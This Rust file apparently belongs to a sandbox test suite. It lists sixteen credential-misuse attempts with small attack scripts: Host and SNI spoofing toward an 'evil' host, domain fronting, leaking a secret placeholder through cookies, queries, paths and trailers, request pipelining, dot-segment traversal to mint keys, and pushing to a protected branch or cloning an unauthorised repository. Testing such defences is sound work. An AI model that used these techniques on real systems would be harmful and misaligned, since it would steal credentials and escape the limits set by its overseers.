// SPDX-License-Identifier: Apache-2.0
//! Using what is granted in a way that was not: other names on a granted connection, a placeholder
//! in other places, another account, another branch, a credential that outlives the session.

use crate::attempt::{Attempt, Goal};
use crate::world::journal::Request;

fn host_is_evil(request: &Request) -> bool {
    request
        .header("host")
        .is_some_and(|host| host.contains("evil"))
}

fn foreign_key(request: &Request) -> bool {
    let fields = ["authorization", "x-api-key"].map(|name| request.header(name));
    fields
        .into_iter()
        .flatten()
        .any(|value| value.contains("attackers-own-key"))
}

fn in_cookie(request: &Request) -> bool {
    request.header("cookie").is_some()
}

fn in_query(request: &Request) -> bool {
    request.target.contains("?key=")
}

fn in_path(request: &Request) -> bool {
    request.target.starts_with("/public/keep/")
}

fn in_trailer(request: &Request) -> bool {
    request.header("x-late").is_some()
}

fn minted(request: &Request) -> bool {
    request.target.contains("/v1/keys")
}

fn dotted(request: &Request) -> bool {
    request.target.contains("..") || request.target.contains("%2e") || minted(request)
}

const fn misuse(
    name: &'static str,
    goal: Goal,
    wall: &'static str,
    script: &'static str,
) -> Attempt {
    Attempt {
        name,
        goal,
        wall,
        script,
    }
}

pub(super) const ATTEMPTS: [Attempt; 16] = [
    misuse(
        "another Host on a granted connection",
        Goal::ApiSees(host_is_evil),
        "asked name, SNI and Host must agree",
        "call('GET', API, '/public', name=EVIL)",
    ),
    misuse(
        "another SNI on a granted connection",
        Goal::ApiHello("evil.torno.test"),
        "asked name, SNI and Host must agree",
        "call('GET', API, '/public', sni=EVIL)",
    ),
    misuse(
        "fronting: the API's Host at another host",
        Goal::SecretAtOther,
        "asked name, SNI and Host must agree",
        "call('GET', OTHER, '/v1/me', [('Authorization', AUTH)], name=API)",
    ),
    misuse(
        "the placeholder to another granted host",
        Goal::SecretAtOther,
        "a binding names one host",
        "call('GET', OTHER, '/public', [('Authorization', AUTH)])",
    ),
    misuse(
        "the placeholder in a body, elsewhere",
        Goal::SecretAtOther,
        "a body carries it inert",
        "call('POST', OTHER, '/public', (), TOKEN.encode())",
    ),
    misuse(
        "the placeholder in a cookie",
        Goal::ApiSees(in_cookie),
        "one slot, declared in the vault",
        "call('GET', API, '/public', [('Cookie', 'key=' + TOKEN)])",
    ),
    misuse(
        "the placeholder in the query",
        Goal::ApiSees(in_query),
        "one slot, declared in the vault",
        "call('GET', API, '/public?key=' + TOKEN)",
    ),
    misuse(
        "the placeholder in the path",
        Goal::ApiSees(in_path),
        "one slot, declared in the vault",
        "call('GET', API, '/public/keep/' + TOKEN)",
    ),
    misuse(
        "the placeholder in a trailer",
        Goal::ApiSees(in_trailer),
        "one slot, declared in the vault",
        r"
head = ('POST /v1/items HTTP/1.1\r\nHost: api.torno.test\r\nConnection: close\r\nAuthorization: '
        + AUTH + '\r\nTE: trailers\r\nTransfer-Encoding: chunked\r\nTrailer: x-late\r\n\r\n')
raw(API, head.encode() + b'2\r\nhi\r\n0\r\nX-Late: ' + TOKEN.encode() + b'\r\n\r\n')
",
    ),
    misuse(
        "my own account at the bound host",
        Goal::ApiSees(foreign_key),
        "only the bound credential fills that slot",
        "call('POST', API, '/v1/items', [('Authorization', 'Bearer attackers-own-key')], b'loot')",
    ),
    misuse(
        "my own account at a granted host",
        Goal::OtherSees(foreign_key),
        "no credential of its own, unless granted",
        "call('POST', OTHER, '/public', [('X-Api-Key', 'attackers-own-key')], b'loot')",
    ),
    misuse(
        "mint a new key that stays behind",
        Goal::ApiSees(minted),
        "methods and paths are bound too",
        "call('POST', API, '/v1/keys', [('Authorization', AUTH)], b'{}')",
    ),
    misuse(
        "reach that path by dot segments",
        Goal::ApiSees(dotted),
        "one spelling of a path",
        "call('GET', API, '/public/../v1/keys', [('Authorization', AUTH)])\n\
         call('GET', API, '/public/%2e%2e/v1/keys', [('Authorization', AUTH)])",
    ),
    misuse(
        "pipeline a second request behind a granted one",
        Goal::ApiSees(minted),
        "every request is judged by itself",
        r"
first = b'GET /public HTTP/1.1\r\nHost: api.torno.test\r\n\r\n'
second = ('POST /v1/keys HTTP/1.1\r\nHost: api.torno.test\r\nAuthorization: ' + AUTH
          + '\r\nContent-Length: 0\r\nConnection: close\r\n\r\n').encode()
raw(API, first + second)
",
    ),
    misuse(
        "push to the protected branch",
        Goal::BranchMoves,
        "a push is bound to repository and branch",
        r"
def git(*words):
    done = subprocess.run(['git', '-c', 'user.name=x', '-c', 'user.email=x@torno.test', *words],
                          capture_output=True, timeout=60)
    # After a refused push git says this; it is not so.
    out((done.stdout + done.stderr).replace(b'Everything up-to-date', b''))
place = 'https://agent:' + os.environ['GIT_TOKEN'] + '@git.torno.test/acme/app'
git('clone', '--quiet', place, 'w')
os.chdir('w')
git('commit', '--quiet', '--allow-empty', '-m', 'mine now')
git('push', 'origin', 'HEAD:refs/heads/main')
",
    ),
    misuse(
        "clone another repository",
        Goal::Says("acme/secret-plans was read"),
        "a credential is bound to its repository",
        r"
done = subprocess.run(['git', 'clone', '--quiet', 'https://agent:' + os.environ['GIT_TOKEN']
                       + '@git.torno.test/acme/secret-plans', 'plans'],
                      capture_output=True, timeout=60)
out(done.stdout + done.stderr)
out(open('plans/README').read().strip() + ' was read')
",
    ),
];
